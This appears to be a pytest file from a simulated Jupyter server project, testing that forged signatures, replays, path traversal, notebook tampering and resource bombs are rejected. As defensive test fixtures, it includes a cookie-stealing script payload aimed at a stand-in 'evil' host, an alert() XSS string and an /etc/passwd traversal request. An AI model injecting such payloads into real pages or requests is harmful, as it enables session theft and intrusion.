@@ -1,0 +1,193 @@
+"""Failure injection: hostile and corrupted inputs at every boundary.
+
+The paper's threat model includes attacks on the *defenders* — these
+tests verify that malformed wire data, forged signatures, replays, and
+tampered documents degrade safely (logged as weird/denied) instead of
+crashing or silently passing."""
+
+import json
+
+import pytest
+
+from repro.messaging import DELIMITER, Session
+from repro.nbformat import Notebook, NotebookSignatureStore
+from repro.server import JupyterServer, ServerConfig, ServerGateway, WebSocketKernelClient
+from repro.simnet import Network
+from repro.util.errors import ProtocolError
+from repro.wire.websocket import Frame, Opcode, encode_frame, encode_text
+
+
+def make_world(**cfg_kw):
+    net = Network(default_latency=0.001)
+    server_host = net.add_host("jupyter", "10.0.0.1")
+    client_host = net.add_host("laptop", "10.0.0.2")
+    cfg = ServerConfig(ip="0.0.0.0", token="tok", **cfg_kw)
+    server = JupyterServer(cfg, net, server_host)
+    gateway = ServerGateway(server)
+    return net, server, gateway, client_host, server_host
+
+
+class TestWireGarbage:
+    def test_random_bytes_at_http_port(self):
+        net, server, gateway, client_host, server_host = make_world()
+        conn = client_host.connect(server_host, 8888)
+        # Binary junk with a header terminator so the parser engages.
+        conn.send_to_server(b"\x00\x01\x02 NOT HTTP \xff\xfe\r\n\r\n")
+        net.run(1.0)  # must not raise
+        assert gateway.protocol_errors  # recorded, not crashed
+
+    def test_headerless_junk_just_buffers(self):
+        """Junk without a terminator sits in the buffer — no crash, no
+        error, exactly like a real server awaiting more bytes."""
+        net, server, gateway, client_host, server_host = make_world()
+        conn = client_host.connect(server_host, 8888)
+        conn.send_to_server(bytes(range(256)) * 4)
+        net.run(1.0)
+        assert gateway.protocol_errors == []
+
+    def test_http_then_garbage_ws_frames(self):
+        net, server, gateway, client_host, server_host = make_world()
+        client = WebSocketKernelClient(client_host, server_host, token="tok")
+        client.start_kernel()
+        client.connect_channels()
+        # Inject reserved-bit frames directly into the upgraded connection.
+        client._conn.send_to_server(b"\xc1\x05hello")
+        net.run(1.0)
+        assert any("RSV" in e for e in gateway.protocol_errors)
+
+    def test_ws_non_jupyter_json(self):
+        net, server, gateway, client_host, server_host = make_world()
+        client = WebSocketKernelClient(client_host, server_host, token="tok")
+        client.start_kernel()
+        client.connect_channels()
+        client._conn.send_to_server(encode_text("not json at all",
+                                                mask_key=b"\x01\x02\x03\x04"))
+        net.run(1.0)
+        assert any("bad ws message" in e for e in gateway.protocol_errors)
+
+    def test_oversized_control_frame_rejected_at_encode(self):
+        with pytest.raises(ProtocolError):
+            encode_frame(Frame(True, Opcode.CLOSE, b"z" * 200))
+
+
+class TestSignatureAttacks:
+    def test_forged_kernel_message_dropped_not_executed(self):
+        """An on-path attacker injects an unsigned execute_request at the
+        ZMTP layer; the kernel must drop it without running the code."""
+        from repro.wire.zmtp import encode_greeting, encode_multipart
+
+        net, server, gateway, client_host, server_host = make_world()
+        client = WebSocketKernelClient(client_host, server_host, token="tok")
+        kid = client.start_kernel()
+        kernel = server.kernels[kid]
+        binding = server.kernel_bindings[kid]
+        # Connect directly to the shell port from the server host (on-path).
+        forged_session = Session(b"WRONG-KEY", check_replay=False)
+        conn = server_host.connect(server_host, binding.ports[list(binding.ports)[0]])
+        conn.send_to_server(encode_greeting() + encode_multipart(
+            forged_session.serialize(forged_session.execute_request("pwned = True"))))
+        net.run(1.0)
+        assert kernel.execution_count == 0
+        assert kernel.world.events_of("bad_message")
+
+    def test_downgrade_to_null_signer_is_detectable(self):
+        """With an empty session key everything verifies — the scanner
+        flags this configuration (JPT-010)."""
+        from repro.misconfig import run_checks
+
+        cfg = ServerConfig(session_key=b"")
+        failed = {r.check_id for r in run_checks(cfg) if not r.passed}
+        assert "JPT-010" in failed
+
+    def test_replayed_execute_request_rejected(self):
+        sender = Session(b"key")
+        receiver = Session(b"key")  # replay protection on
+        wire = sender.serialize(sender.execute_request("transfer_funds()"))
+        receiver.unserialize(wire)
+        with pytest.raises(ProtocolError, match="replayed"):
+            receiver.unserialize(wire)
+
+    def test_segment_reordering_breaks_signature(self):
+        """Swapping header and content segments must fail verification."""
+        s = Session(b"key")
+        parts = s.serialize(s.execute_request("1"))
+        parts[2], parts[5] = parts[5], parts[2]
+        with pytest.raises(ProtocolError, match="signature"):
+            Session(b"key").unserialize(parts)
+
+
+class TestDocumentTampering:
+    def test_notebook_output_injection_loses_trust(self):
+        store = NotebookSignatureStore(b"notary")
+        nb = Notebook.new()
+        nb.add_code("print('benign')")
+        store.sign(nb)
+        # Attacker injects a script payload into a trusted notebook's outputs.
+        nb.code_cells[0].outputs.append({
+            "output_type": "display_data",
+            "data": {"text/html": "<script>fetch('//evil/'+document.cookie)</script>"},
+            "metadata": {},
+        })
+        assert not store.check(nb)
+
+    def test_server_sanitizes_untrusted_notebook_on_read(self):
+        net, server, gateway, client_host, server_host = make_world()
+        client = WebSocketKernelClient(client_host, server_host, token="tok")
+        nb = Notebook.new()
+        cell = nb.add_code("x")
+        cell.outputs.append({
+            "output_type": "display_data",
+            "data": {"text/html": "<script>alert(1)</script>", "text/plain": "ok"},
+            "metadata": {},
+        })
+        client.json("PUT", "/api/contents/evil.ipynb",
+                    {"type": "notebook", "content": nb.to_dict()})
+        model = client.json("GET", "/api/contents/evil.ipynb")
+        assert model["trusted"] is False
+        outputs = model["content"]["cells"][0]["outputs"]
+        assert all("text/html" not in o.get("data", {}) for o in outputs)
+
+    def test_malformed_notebook_rejected_by_contents_api(self):
+        net, server, gateway, client_host, server_host = make_world()
+        client = WebSocketKernelClient(client_host, server_host, token="tok")
+        resp = client.request("PUT", "/api/contents/bad.ipynb", json.dumps({
+            "type": "notebook", "content": {"cells": [{"cell_type": "exploit"}]},
+        }).encode())
+        assert resp.status == 400
+
+    def test_path_traversal_rejected_end_to_end(self):
+        net, server, gateway, client_host, server_host = make_world()
+        client = WebSocketKernelClient(client_host, server_host, token="tok")
+        resp = client.request("GET", "/api/contents/../../etc/passwd")
+        assert resp.status in (400, 404)
+        # And the VFS never saw a normalized traversal path.
+        assert not server.fs.exists("etc/passwd")
+
+
+class TestResourceExhaustion:
+    def test_kernel_op_bomb_contained(self):
+        net, server, gateway, client_host, server_host = make_world()
+        client = WebSocketKernelClient(client_host, server_host, token="tok")
+        client.start_kernel()
+        client.connect_channels()
+        reply = client.execute("while True:\n    pass", wait=120.0)
+        assert reply is not None
+        assert reply.content["ename"] == "ResourceLimitError"
+        # Kernel survives and accepts the next cell.
+        reply2 = client.execute("1 + 1", wait=60.0)
+        assert reply2.content["status"] == "ok"
+
+    def test_ws_message_size_cap(self):
+        from repro.wire.websocket import WebSocketDecoder
+
+        dec = WebSocketDecoder(max_message_size=1024)
+        with pytest.raises(ProtocolError, match="cap"):
+            dec.feed(encode_frame(Frame(True, Opcode.BINARY, b"z" * 2048)))
+
+    def test_recursion_bomb_contained(self):
+        net, server, gateway, client_host, server_host = make_world()
+        client = WebSocketKernelClient(client_host, server_host, token="tok")
+        client.start_kernel()
+        client.connect_channels()
+        reply = client.execute("def f():\n    return f()\nf()", wait=60.0)
+        assert reply.content["ename"] == "ResourceLimitError"
